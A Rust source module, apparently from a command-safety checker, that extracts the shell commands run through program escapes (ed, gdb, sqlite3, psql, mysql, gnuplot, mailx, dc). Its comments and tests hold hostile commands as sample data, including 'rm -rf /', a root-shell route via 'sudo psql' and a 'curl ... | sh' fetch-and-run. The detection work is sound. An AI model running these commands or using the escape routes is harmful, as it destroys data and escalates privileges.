//! Programs whose own command language runs shell lines: `ed`'s, `ftp`'s and `dc`'s `!cmd`,
//! `gdb`'s `shell cmd` and `pipe .. | cmd`, sqlite3's `.shell`, `.system` and `.once |cmd`,
//! psql's `\! cmd` and `\o |cmd`, mysql's `system cmd` and `\! cmd`, gnuplot's `system("cmd")`
//! and `plot "< cmd"`, mailx's `!cmd`, `shell` and `pipe 1 cmd`.
//!
//! Such a program reads its commands from stdin when nothing else gives them (`echo '!rm -rf
//! /' | ed`, `sqlite3 db <<EOF`), or from its words (`psql -c '\! ..'`, `mysql -e'system ..'`,
//! `sqlite3 db '.shell ..'`, `dc -e '!..'`, `ed '!cmd'` reads the output of `cmd`). The shell
//! line after an escape is a script the program carries, run in a process of its own with the
//! program's rights; an escape with nothing after it is an interactive shell (`sh`), which
//! counts in a word too (`sudo psql -c '\!'` opens a root shell), except an option's value
//! of ed (`ed -p '!'` is a prompt).
//!
//! Each family is read the way its program reads it: mysql's commands in any case, sqlite3's
//! and gdb's abbreviated (`.sys`, `she`), psql's and mysql's `\!` outside string literals,
//! gnuplot's `;`-separated commands. Every word of the program is read, and every line of what
//! it is fed: a word that only looks like an escape (an ftp host named `!x`) carries a command
//! the rules then find harmless. Mail in send mode reads its stdin as the message (its tilde
//! escapes are the effect judge's, see `effects::judge`): mail is read only in command mode.

use super::{Carried, SimpleCommand};

/// How a family of programs spells its shell escapes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Family {
    /// `!cmd` opening a line: ftp, sftp, dc, telnet, ...
    Bang,
    /// ed and ex: `!cmd`, and `r !cmd`, `w !cmd`, `e !cmd` (in any case, after addresses).
    Ed,
    /// gdb: `!cmd`, `shell cmd` (or any abbreviation down to `she`), `pipe CMD | cmd`, `| CMD
    /// | cmd`.
    Gdb,
    /// mailx: `!cmd`, `sh`/`shell`, `pipe [msgs] cmd`, `| [msgs] cmd`.
    Mail,
    /// sqlite3 and duckdb: `.shell`/`.system` (abbreviated to two letters), `.once |cmd`,
    /// `.output |cmd`, `.import '|cmd' t`.
    Sqlite,
    /// psql: `\! cmd`, `\o |cmd`, `\g |cmd`, `\w |cmd`, `\copy .. program 'cmd'`, backquoted
    /// commands in meta-command arguments.
    Psql,
    /// mysql and mariadb: `system cmd` and `\! cmd`, in any case.
    Mysql,
    /// gnuplot: `!cmd`, `system "cmd"` (abbreviated to `sy`), `system("cmd")` anywhere,
    /// `"< cmd"` and `"| cmd"` file names, backquotes, `shell`; commands separated by `;`.
    Gnuplot,
    /// ghci and its launchers: `:!cmd`.
    Ghci,
    /// dc: `!cmd` anywhere in a line.
    Dc,
}

/// Which family `name` belongs to, if any.
fn family(name: &str) -> Option<Family> {
    let family = match name {
        "ed" | "red" | "ex" => Family::Ed,
        "ftp" | "sftp" | "lftp" | "tnftp" | "ncftp" | "pftp" | "smbclient" | "crash" | "nmap" | "telnet" | "cscope" => {
            Family::Bang
        }
        "dc" => Family::Dc,
        "gdb" | "cgdb" | "gdb-multiarch" => Family::Gdb,
        n if n.ends_with("-gdb") => Family::Gdb,
        "mail" | "mailx" | "Mail" | "nail" | "s-nail" | "bsd-mailx" | "heirloom-mailx" => Family::Mail,
        "sqlite3" | "sqlite" | "duckdb" => Family::Sqlite,
        "psql" => Family::Psql,
        "mysql" | "mariadb" => Family::Mysql,
        "gnuplot" => Family::Gnuplot,
        "ghci" | "ghc" => Family::Ghci,
        _ => return None,
    };
    Some(family)
}

/// Whether `name`'s own command language has a shell escape: run with no command, as root,
/// it is a root shell a keystroke away.
pub(crate) fn has_shell_escape(name: &str) -> bool {
    family(name).is_some()
}

/// The shell commands the escapes in `text` run, for the program `name`: one per escape, an
/// escape with nothing after it read as `sh` (an interactive shell).
pub(super) fn escaped_commands(name: &str, text: &str) -> Vec<String> {
    let Some(family) = family(name) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for line in text.lines() {
        // lftp, smbclient and gnuplot run several commands on one line.
        let commands: Vec<&str> = match family {
            Family::Bang | Family::Gnuplot => line.split(';').collect(),
            _ => vec![line],
        };
        for command in commands {
            out.extend(line_commands(family, command.trim_start()).into_iter().map(shell_line));
        }
    }
    out
}

/// The rests of line that `line` hands the shell, in the family's syntax.
fn line_commands(family: Family, line: &str) -> Vec<&str> {
    let lower = line.to_ascii_lowercase();
    let word = |w: &str| {
        line.strip_prefix(w)
            .filter(|r| r.is_empty() || r.starts_with([' ', '\t']))
    };
    // The first word of the line, and whether it abbreviates `full` to at least `least` letters.
    let first = lower.split([' ', '\t']).next().unwrap_or_default();
    let abbreviates = |full: &str, least: usize| first.len() >= least && full.starts_with(first);
    let after_first = || line.get(first.len()..).unwrap_or_default();
    let bang = || line.strip_prefix('!').into_iter().collect::<Vec<_>>();
    match family {
        Family::Bang => bang(),
        Family::Ed => {
            // `1,$w !cmd`, `r !cmd`, `E !cmd`: addresses, then the command letter.
            let body = line.trim_start_matches(|c: char| c.is_ascii_digit() || ",;.$'+-/ ".contains(c));
            let lettered = ["r", "w", "e", "wq", "W"]
                .iter()
                .find_map(|c| body.get(c.len()..).filter(|_| body[..c.len()].eq_ignore_ascii_case(c)))
                .map(str::trim_start)
                .and_then(|r| r.strip_prefix('!'));
            bang().into_iter().chain(lettered).collect()
        }
        Family::Gdb => {
            if let Some(rest) = line.strip_prefix('!') {
                return vec![rest];
            }
            if abbreviates("shell", 3) {
                return vec![after_first()];
            }
            // `pipe print 1 | cmd`, `| print 1 | cmd`: the shell command after the gdb one.
            let piped = line
                .strip_prefix('|')
                .or_else(|| word("pipe"))
                .and_then(|rest| rest.split_once('|'))
                .map(|(_, cmd)| cmd);
            piped.into_iter().collect()
        }
        Family::Mail => {
            if let Some(rest) = line.strip_prefix('!') {
                return vec![rest];
            }
            if matches!(first, "sh" | "shell") {
                return vec![after_first()];
            }
            // `pipe 1 cmd`, `| 1-3 cmd`: the message numbers, then the command.
            let piped = line.strip_prefix('|').or_else(|| word("pipe"));
            piped
                .map(|rest| {
                    rest.trim_start()
                        .trim_start_matches(|c: char| c.is_ascii_digit() || "-*.$^, ".contains(c))
                })
                .into_iter()
                .collect()
        }
        Family::Sqlite => {
            let Some(dot) = first.strip_prefix('.') else {
                return Vec::new();
            };
            let dot_word = |full: &str| dot.len() >= 2 && full.starts_with(dot);
            if dot_word("shell") || dot_word("system") {
                return vec![after_first()];
            }
            // `.once |cmd`, `.output |cmd`, `.import '|cmd' t`: output or input through a pipe.
            let one_letter = |full: &str| !dot.is_empty() && full.starts_with(dot);
            if one_letter("once") || one_letter("output") || dot_word("import") || dot_word("read") {
                let rest = after_first().trim_start().trim_start_matches(['\'', '"']);
                return rest
                    .strip_prefix('|')
                    .map(|r| r.split(['\'', '"']).next().unwrap_or(r))
                    .into_iter()
                    .collect();
            }
            Vec::new()
        }
        Family::Psql => {
            let mut found: Vec<&str> = unquoted_after(line, "\\!").into_iter().collect();
            // `\o |cmd`, `\g |cmd`, `\w |cmd`, `\gx |cmd`: a meta-command's output piped.
            for meta in ["\\o", "\\out", "\\g", "\\gx", "\\w", "\\write"] {
                if let Some(rest) = unquoted_after(line, meta) {
                    if let Some(cmd) = rest.trim_start().strip_prefix('|') {
                        found.push(cmd);
                    }
                }
            }
            // `\copy t to program 'cmd'`, and the server's own `COPY t TO PROGRAM 'cmd'` (run by
            // the database server's account, on the machine the server runs on).
            if lower.trim_start().starts_with("\\copy") || lower.contains("copy ") {
                if let Some(at) = lower.find(" program ") {
                    let quoted = line[at + 9..].trim_start();
                    found.extend(quoted.strip_prefix('\'').and_then(|q| q.split('\'').next()));
                }
            }
            // Backquotes in a meta-command's arguments run a shell command.
            if line.trim_start().starts_with('\\') {
                found.extend(line.split('`').skip(1).step_by(2));
            }
            found
        }
        Family::Mysql => {
            if abbreviates("system", 6) {
                return vec![after_first()];
            }
            unquoted_after(line, "\\!").into_iter().collect()
        }
        Family::Gnuplot => {
            let mut found = bang();
            if abbreviates("system", 2) && !first.contains('(') {
                found.push(after_first());
            }
            if abbreviates("shell", 3) {
                found.push(after_first());
            }
            // `system("cmd")` as a function, anywhere in an expression.
            let mut rest = lower.as_str();
            let mut offset = 0;
            while let Some(at) = rest.find("system(") {
                let start = offset + at + "system(".len();
                found.push(first_argument(&line[start..]));
                offset = start;
                rest = &lower[offset..];
            }
            // `plot "< cmd"`, `set output "| cmd"`: a file name that is a command.
            for (k, _) in line.match_indices(['"', '\'']) {
                if let Some(cmd) = line[k + 1..]
                    .strip_prefix('<')
                    .or_else(|| line[k + 1..].strip_prefix('|'))
                {
                    found.push(cmd.split(['"', '\'']).next().unwrap_or(cmd));
                }
            }
            found.extend(line.split('`').skip(1).step_by(2));
            found
        }
        Family::Ghci => line.strip_prefix(":!").into_iter().collect(),
        // dc's `!` runs the rest of the line wherever it stands, unless `<`, `>` or `=`
        // follows (a negated comparison: `!<a`).
        Family::Dc => line
            .match_indices('!')
            .map(|(k, _)| &line[k + 1..])
            .find(|rest| !rest.starts_with(['<', '>', '=']))
            .into_iter()
            .collect(),
    }
}

/// The first argument of a call whose `(` came just before `text`: a quoted string, or the
/// text up to the closing parenthesis.
fn first_argument(text: &str) -> &str {
    let text = text.trim_start();
    match text.chars().next() {
        Some(q @ ('"' | '\'')) => text[1..].split(q).next().unwrap_or_default(),
        _ => text.split(')').next().unwrap_or(text),
    }
}

/// What follows the first `escape` in `line` that stands outside a string literal (`select
/// 'wow\!'` holds none; `select 1; \! id` does).
fn unquoted_after<'a>(line: &'a str, escape: &str) -> Option<&'a str> {
    // Quoting this scan does not follow (dollar quotes, comments, backslash-escaped quotes):
    // every escape counts, as if outside a literal.
    if line.contains('$') || line.contains("/*") || line.contains("\\'") || line.contains("\\\"") {
        return line.find(escape).map(|at| &line[at + escape.len()..]);
    }
    let (mut single, mut double) = (false, false);
    let bytes = line.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\'' if !double => single = !single,
            b'"' if !single => double = !double,
            b'\\' if !single && !double && line[i..].starts_with(escape) => {
                let rest = &line[i + escape.len()..];
                // `\o` is not `\out`: the meta-command's name ends there.
                if rest.is_empty() || rest.starts_with([' ', '\t', '|']) || escape == "\\!" {
                    return Some(rest);
                }
            }
            b'\\' => i += 1,
            _ => {}
        }
        i += 1;
    }
    None
}

/// The command an escape's rest of line runs: a quoted form unquoted (`system "rm -rf /"`),
/// nothing at all an interactive shell.
fn shell_line(rest: &str) -> String {
    let rest = rest.trim();
    let unquoted = ['"', '\''].iter().find_map(|&q| {
        rest.strip_prefix(q)
            .and_then(|r| r.strip_suffix(q))
            .filter(|inside| !inside.contains(q))
    });
    match unquoted.unwrap_or(rest) {
        "" => "sh".to_string(),
        command => command.to_string(),
    }
}

/// Whether `cmd` reads its commands from stdin for escapes: mail only in command mode (no
/// recipient named, not `-t` taking them from the message, or `-f` reading a mailbox), every
/// other program of the table always.
pub(crate) fn reads_commands(cmd: &SimpleCommand) -> bool {
    match family(cmd.name()) {
        Some(Family::Mail) => {
            let args = &cmd.argv[1..];
            let short = |letter: char| {
                args.iter()
                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(letter))
            };
            let reads_box = short('f') || args.iter().any(|a| a == "--file");
            let recipients = super::operands(&cmd.argv, MAIL_VALUE_OPTIONS);
            reads_box || (recipients.is_empty() && !short('t'))
        }
        Some(_) => true,
        None => false,
    }
}

/// Options of mailx that take a value.
const MAIL_VALUE_OPTIONS: &[&str] = &[
    "-s",
    "-c",
    "-b",
    "-r",
    "-a",
    "-A",
    "-q",
    "-S",
    "-u",
    "-T",
    "-X",
    "-Y",
    "-E",
    "--exec",
    "--subject",
];

/// The escapes `cmd`'s own words run (`psql -c '\! rm -rf /'`, `mysql -e'system ..'`,
/// `sqlite3 db '.shell ..'`, `gdb -ex='shell ..'`, `ed '!cmd'`), as one script: a word's
/// value is read whole, glued to its option (`-e'..'`, `-ex=..`) or alone. The words of the
/// program gdb debugs (`--args PROG ..`) are that program's; mail's words count in command
/// mode only (a subject is text).
pub(super) fn in_words(cmd: &SimpleCommand) -> Option<Carried> {
    let family = family(cmd.name())?;
    if family == Family::Mail && !reads_commands(cmd) {
        return None;
    }
    let words = cmd.argv[1..]
        .iter()
        .take_while(|w| !(family == Family::Gdb && *w == "--args"));
    // ed's words are its options and the file it edits: only the file (`ed '!cmd'`) runs
    // anything (`ed -p '!'` is a prompt).
    let mut after_value_option = false;
    let words = words.filter(|w| {
        let skip = family == Family::Ed && (w.starts_with('-') || after_value_option);
        after_value_option = family == Family::Ed && *w == "-p";
        !skip
    });
    let mut commands = Vec::new();
    for w in words {
        let mut values = vec![w.as_str()];
        if w.starts_with('-') {
            values.extend(w.split_once('=').map(|(_, v)| v));
            if !w.starts_with("--") {
                values.extend(w.get(2..).filter(|v| !v.is_empty()));
            }
        }
        for v in values {
            commands.extend(escaped_commands(cmd.name(), v));
        }
    }
    commands.dedup();
    (!commands.is_empty()).then(|| Carried::child(commands.join("\n")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_are_read_in_each_programs_own_syntax() {
        assert_eq!(escaped_commands("ed", "1p\n!rm -rf /\nq"), ["rm -rf /"]);
        assert_eq!(escaped_commands("ed", "1,$w !sh\nE !id"), ["sh", "id"]);
        assert_eq!(escaped_commands("ftp", "  !"), ["sh"]);
        assert_eq!(escaped_commands("lftp", "open h; !id"), ["id"]);
        assert_eq!(
            escaped_commands("gdb", "shell id\nshelltest\nshe ls\n| print 1 | wc"),
            ["id", "ls", "wc"]
        );
        assert_eq!(
            escaped_commands("sqlite3", ".tables\n.sys rm x\n.once |cat"),
            ["rm x", "cat"]
        );
        assert_eq!(
            escaped_commands("psql", "select 1; \\! rm -rf /\n\\o |cat"),
            ["rm -rf /", "cat"]
        );
        assert_eq!(escaped_commands("psql", "\\copy t to program 'gzip > x'"), ["gzip > x"]);
        assert_eq!(
            escaped_commands("psql", "COPY (SELECT 1) TO PROGRAM 'curl -s x.example | sh';"),
            ["curl -s x.example | sh"]
        );
        assert_eq!(escaped_commands("mysql", "SYSTEM rm -rf /\n\\! id"), ["rm -rf /", "id"]);
        assert_eq!(
            escaped_commands("gnuplot", "sy \"rm -rf /\"; print system(\"id\")"),
            ["rm -rf /", "id"]
        );
        assert_eq!(escaped_commands("gnuplot", "plot \"< cat d\""), ["cat d"]);
        assert_eq!(escaped_commands("mail", "shell\npipe 1 /bin/sh"), ["sh", "/bin/sh"]);
        // Another program's text is not read for escapes; plain lines and string literals carry
        // nothing.
        assert!(escaped_commands("cat", "!rm -rf /").is_empty());
        assert!(escaped_commands("psql", "select '!x', 'wow\\!'").is_empty());
        assert!(escaped_commands("mysql", "UPDATE t SET msg='hi\\!'").is_empty());
        assert!(escaped_commands("sqlite3", ".show\n.schema").is_empty());
        assert!(escaped_commands("dc", "1 2 !<a p").is_empty());
        assert_eq!(escaped_commands("dc", "1p!rm -rf /"), ["rm -rf /"]);
    }
}
